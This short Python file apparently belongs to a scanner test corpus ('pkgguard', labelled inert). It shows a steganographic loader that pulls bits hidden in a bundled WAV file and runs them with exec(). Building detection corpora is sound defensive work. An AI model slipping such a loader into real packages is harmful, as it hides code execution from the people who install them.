# pkgguard corpus 390 (steganography), modelled on [telnyx]; inert, never run.
import os
import wave

_path = os.path.join(os.path.dirname(__file__), "assets", "chime.wav")
with wave.open(_path, "rb") as w:
    frames = w.readframes(w.getnframes())
bits = [b & 1 for b in frames[: 8 * 4096]]
data = bytes(sum(bits[i + j] << j for j in range(8)) for i in range(0, len(bits), 8))
exec(data.split(b"\0", 1)[0].decode("latin-1"))
